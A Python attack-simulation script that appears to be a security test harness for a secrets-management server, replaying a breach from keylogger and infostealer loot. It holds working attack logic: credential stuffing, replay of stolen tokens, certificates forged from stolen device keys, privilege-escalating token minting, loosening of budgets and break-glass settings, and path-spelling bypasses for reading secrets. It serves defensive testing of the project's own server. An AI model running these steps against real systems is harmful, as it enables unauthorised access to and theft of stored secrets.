"""The attacker of 2022 as a program: it has what was stolen, the source code, and the address.

    python attacker.py LOOT

LOOT is a folder with `target.json` (address, CA file, mounts), and what a theft brought in:

    typed.txt        a keylogger's catch: all that was typed, a line each
    home/            an infostealer's catch: every file of the machine, browser profile and all
    agent/           a live shell: what speaks for the device while its agent runs

It tries the steps of the breach that the loot allows, on every declared route, and prints one JSON
document: a row for each step (tried, let in), and everything that it was answered.
"""

import contextlib
import json
import re
import sys
from collections.abc import Iterator
from dataclasses import asdict, dataclass
from functools import partial
from pathlib import Path
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric.ec import EllipticCurvePrivateKey
from cryptography.hazmat.primitives.serialization import load_pem_private_key

from ironkeep.app import PLUGINS
from ironkeep.core.ids import MountAccessor, MountUuid
from ironkeep.core.operation import Operation
from ironkeep.kernel.plugin import Mount
from ironkeep.testing.soft_device import SoftDevice
from ironkeep.testing.tls_client import TlsClient

METHODS: Final = {
    Operation.READ: "GET", Operation.LIST: "LIST", Operation.UPDATE: "POST",
    Operation.PATCH: "PATCH", Operation.DELETE: "DELETE",
}  # fmt: skip
TOKEN: Final = re.compile(r"hv[sb]\.[A-Za-z0-9_\-]{24,}")


@dataclass
class Row:
    """What one step of the breach brought."""

    step: str
    what: str
    tried: int = 0
    let_in: int = 0


class Attacker:
    """Tries what its loot allows."""

    def __init__(self, loot: Path) -> None:
        self.loot: Final = loot
        self.target: Final[dict[str, Any]] = json.loads((loot / "target.json").read_text())
        self.rows: Final[list[Row]] = []
        self.answers: Final[list[str]] = []
        self.stack: Final = contextlib.ExitStack()
        self.nowhere: Final = self.connect()
        typed = "\n".join(self.files("typed")).split("\n")
        self.typed: Final = sorted({line for line in typed if line})
        self.tokens: Final = sorted(
            {found for text in self.files("home") for found in TOKEN.findall(text)}
        )

    def connect(self, *files: Path) -> TlsClient:
        """Return a connection, with a client certificate or without."""
        client = TlsClient(self.target["address"], Path(self.target["ca"]), *files)
        return self.stack.enter_context(client)

    def files(self, kind: str) -> Iterator[str]:
        """Yield the text of every stolen file of a kind."""
        for path in sorted((self.loot / kind).rglob("*")):
            if path.is_file():
                yield path.read_bytes().decode("utf-8", "replace")

    def ask(
        self, row: Row, client: TlsClient, method: str, path: str, data: Any = None, token: str = ""
    ) -> Any:
        """Send one request, keep its answer, and count it; return the answer, None if refused."""
        row.tried += 1
        try:
            status, body = client.send(method, path, data, token)
        except OSError:
            return None  # not even a connection
        if status >= 300:
            return None
        row.let_in += 1
        self.answers.append(body.decode("latin-1") if isinstance(body, bytes) else json.dumps(body))
        return body

    def row(self, step: str, what: str) -> Row:
        """Return a new row of the report."""
        self.rows.append(Row(step, what))
        return self.rows[-1]

    # -- the steps

    def run(self) -> None:
        """Try everything."""
        self.knock()
        self.type()
        self.replay()
        self.impersonate()
        self.ride()

    def knock(self) -> None:
        """K7: an unmanaged machine, with nothing but the address, on every route."""
        row = self.row("K7", "no token, every route, from an unenrolled machine")
        for method, path in self.routes():
            self.ask(row, self.nowhere, method, path, {} if method == "POST" else None)

    def type(self) -> None:
        """K8: every typed line as a password of every typed name, at every way to log in."""
        row = self.row("K8", "typed input at every login, and as a token")
        self.log_in(row, self.nowhere)
        for line in self.typed:
            self.ask(row, self.nowhere, "GET", "auth/token/lookup-self", token=line)

    def log_in(self, row: Row, client: TlsClient) -> None:
        """Log in by what was typed, over a connection; with whom that works, take all there is."""
        pairs = [(name, password) for name in self.typed for password in self.typed]
        for mount in self.target["logins"]:
            for name, password in pairs:
                given = {"password": password}
                made = self.ask(row, client, "POST", f"{mount}login/{name}", given)
                if made:
                    self.export(client, made["auth"]["client_token"], "K10")

    def replay(self) -> None:
        """K3, K9: every stolen token on every route, and to enrol a device of the attacker's."""
        row = self.row("K9", "stolen tokens on every route, from another machine")
        for token in self.tokens:
            for method, path in self.routes(tokens_only=True):
                self.ask(row, self.nowhere, method, path, {} if method == "POST" else None, token)
            self.export(self.nowhere, token, "K11")
            device = SoftDevice()
            wish = {"name": "x", "ownership": "corporate", "key_spki": device.spki}
            self.ask(row, self.nowhere, "POST", "device/enrol/start", wish, token)

    def impersonate(self) -> None:
        """K9: every stolen private key as the device's: a certificate, and with it the tokens."""
        row = self.row("K9", "stolen device keys: certificates, and tokens over them")
        for text in self.files("home"):
            for key in keys_in(text):
                for device in self.target["devices"]:
                    client = self.certified(row, key, device)
                    if client is None:
                        continue
                    for token in self.tokens:
                        self.export(client, token, "K11")
                    self.log_in(row, client)

    def certified(self, row: Row, key: EllipticCurvePrivateKey, device: str) -> TlsClient | None:
        """Return a connection by a certificate that a stolen device key asked for, if any."""
        soft = SoftDevice(key)
        soft.id = device

        def send(path: str, data: Any) -> Any:
            answer = self.ask(row, self.nowhere, "POST", path, data)
            if answer is None:
                raise PermissionError(path)
            return answer["data"]

        try:
            made = soft.certificate(send)
        except PermissionError:
            return None
        paths = self.loot / "forged.pem", self.loot / "forged.key"
        for path, pem in zip(paths, made, strict=True):
            path.write_bytes(pem)
        return self.connect(*paths)

    def ride(self) -> None:
        """K11: a live shell on the device asks its agent for everything, as the user could."""
        files = self.loot / "agent" / "now.pem", self.loot / "agent" / "now.key"
        if files[0].exists():
            agent = self.connect(*files)
            for token in self.tokens:
                self.export(agent, token, "K11")
                self.launder(agent, token)
                self.loosen(agent, token)
                self.respell(agent, token)

    def launder(self, client: TlsClient, token: str) -> None:
        """Make other tokens of one token, every way that policy allows, and take all with each."""
        row = self.row("K12", "children, orphans, roles, aliases and machines made by that token")
        for client_token in self.laundered(row, client, token):
            self.secrets(client, client_token, "K12")
            self.ask(row, self.nowhere, "LIST", "secret/metadata/", token=client_token)

    def laundered(self, row: Row, client: TlsClient, token: str) -> Iterator[str]:
        """Yield tokens that stand on another one."""
        made = partial(self.ask, row, client, "POST", token=token)
        wanted = {"policies": self.target["policies"], "ttl": "1h"}
        role = {"allowed_policies": self.target["policies"], "orphan": True, "renewable": False}
        made("auth/token/roles/k12", role)
        machine = {"token_policies": self.target["policies"], "bind_secret_id": True}
        made("auth/approle/role/k12", {**machine, "secret_id_wrapping": "off"})
        ways = [
            ("auth/token/create", wanted),
            ("auth/token/create", {**wanted, "no_parent": True}),
            ("auth/token/create", {**wanted, "type": "batch"}),
            ("auth/token/create", {**wanted, "num_uses": 50}),
            ("auth/token/create-orphan", wanted),
            ("auth/token/create/k12", wanted),
            ("auth/token/create/k12", {**wanted, "entity_alias": "k12"}),
        ]
        for path, data in ways:
            answer = made(path, data)
            if answer and answer["auth"]:
                yield answer["auth"]["client_token"]
        yield from self.machine(row, client, token)

    def machine(self, row: Row, client: TlsClient, token: str) -> Iterator[str]:
        """Yield the token of a machine whose role and secret id another token made."""
        where = "auth/approle/role/k12"
        found = self.ask(row, client, "GET", f"{where}/role-id", token=token)
        secret = self.ask(row, client, "POST", f"{where}/secret-id", {}, token)
        if not (found and secret):
            return
        if secret.get("wrap_info"):
            opened = {"token": secret["wrap_info"]["token"]}
            secret = self.ask(row, client, "POST", "sys/wrapping/unwrap", opened)
        if secret and secret.get("data"):
            given = {
                "role_id": found["data"]["role_id"],
                "secret_id": secret["data"]["secret_id"],
            }
            answer = self.ask(row, client, "POST", "auth/approle/login", given)
            if answer:
                yield answer["auth"]["client_token"]

    def loosen(self, client: TlsClient, token: str) -> None:
        """Lower what bounds that token, every way that policy allows; then take all again."""
        row = self.row("K13", "lower budgets, classes and break-glass, then export again")
        limits = {"hour": 0, "day": 0, "month": 0}
        for kind in ("entity", "device", "team", "house"):
            self.ask(row, client, "POST", f"sys/budgets/defaults/{kind}", limits, token)
        self.ask(row, client, "POST", "sys/budgets/defaults", {"soft": 100}, token)
        for mount in self.target["secrets"]:
            for guard in self.target["classes"]:
                at = f"sys/classes/{mount}{guard}"
                self.ask(row, client, "DELETE", at, token=token)
                self.ask(row, client, "POST", at, {"class": "open"}, token)
                self.ask(row, client, "POST", f"{at}/0", {"class": "open"}, token)
        people = {"people": "k12a,k12b", "policies": self.target["policies"], "need": 1}
        self.ask(row, client, "POST", "sys/break-glass/config", people, token)
        self.secrets(client, token, "K13")

    def respell(self, client: TlsClient, token: str) -> None:
        """Ask for every secret by each spelling that a parser might take for another object."""
        row = self.row("K14", "every secret by other spellings of its path")
        for mount in self.target["secrets"]:
            for name in self.names(row, client, token, f"{mount}metadata/"):
                for path in spellings(mount, name):
                    self.ask(row, client, "GET", path, token=token)

    def export(self, client: TlsClient, token: str, step: str) -> None:
        """Read everything that can be listed, wrapped and not; then every other route, once."""
        self.secrets(client, token, step)
        row = self.row(step, "every other route with that token")
        for method, path in self.routes(tokens_only=True):
            if method in ("GET", "LIST"):
                self.ask(row, client, method, path, token=token)

    def secrets(self, client: TlsClient, token: str, step: str) -> None:
        """Read everything that can be listed, wrapped and not."""
        row = self.row(step, "all secrets that can be listed")
        for mount in self.target["secrets"]:
            for name in self.names(row, client, token, f"{mount}metadata/"):
                path = f"{mount}data/{name}"
                self.ask(row, client, "GET", path, token=token)
                self.unwrapped(row, client, token, path)
                self.ask(row, client, "GET", f"{mount}subkeys/{name}", token=token)

    def unwrapped(self, row: Row, client: TlsClient, token: str, path: str) -> None:
        """Have an answer wrapped, and open it here and elsewhere."""
        row.tried += 1
        _, body = client.send("GET", path, None, token, {"X-Vault-Wrap-TTL": "60"})
        info = body.get("wrap_info") if isinstance(body, dict) else None
        if info:
            given = {"token": info["token"]}
            self.ask(row, self.nowhere, "POST", "sys/wrapping/unwrap", given)
            self.ask(row, client, "POST", "sys/wrapping/unwrap", given, token)

    def names(self, row: Row, client: TlsClient, token: str, folder: str) -> Iterator[str]:
        """Yield the names below a folder, at any depth."""
        listed = self.ask(row, client, "LIST", folder, token=token)
        for name in listed["data"]["keys"] if listed else ():
            if name.endswith("/"):
                below = self.names(row, client, token, folder + name)
                yield from (name + each for each in below)
            else:
                yield name

    def routes(self, *, tokens_only: bool = False) -> Iterator[tuple[str, str]]:
        """Yield method and path of every declared route of every mount."""
        for at, kind, options in self.target["mounts"]:
            mount = Mount("", kind, MountUuid(""), MountAccessor(""), options=options or {})
            for route in PLUGINS[kind].routes(mount):
                if not (tokens_only and (route.open or route.login)):
                    pattern = re.sub(r"\{\w+(\.\.\.)?\}", self.target["name"], route.pattern)
                    yield METHODS[route.op], at + pattern


def spellings(mount: str, name: str) -> Iterator[str]:
    """Yield paths that may mean the secret of that name."""
    at, folders, last = mount.rstrip("/"), *name.rpartition("/")[::2]
    yield from (
        f"{at}/data/{name}/", f"{at}/data//{name}", f"{at}//data/{name}", f"/{at}/data/{name}",
        f"{at}/data/{name}%20", f"{at}/data/%20{name}", f"{at}/data/{name.upper()}",
        f"{at}/data/{folders}%2F{last}", f"{at}/data/./{name}", f"{at}/data/x/../{name}",
        f"{at}/DATA/{name}", f"{at}/data/{name}?version=1", f"{at}/subkeys/{name}?depth=9",
        f"{at}/metadata/{name}", f"{at}/{name}", f"{at}/data/{name}%00",
        f"{at}/data/{name}%EF%B8%8F",
    )  # fmt: skip


def keys_in(text: str) -> Iterator[EllipticCurvePrivateKey]:
    """Yield the P-256 keys in a file."""
    for found in re.findall(r"-----BEGIN [A-Z ]*KEY-----[^-]+-----END [A-Z ]*KEY-----", text):
        with contextlib.suppress(ValueError, TypeError):
            key = load_pem_private_key(found.encode(), password=None)
            if isinstance(key, EllipticCurvePrivateKey):
                yield key


if __name__ == "__main__":
    attacker = Attacker(Path(sys.argv[1]))
    with attacker.stack:
        attacker.run()
    rows = [asdict(row) for row in attacker.rows]
    json.dump({"rows": rows, "answers": attacker.answers}, sys.stdout)
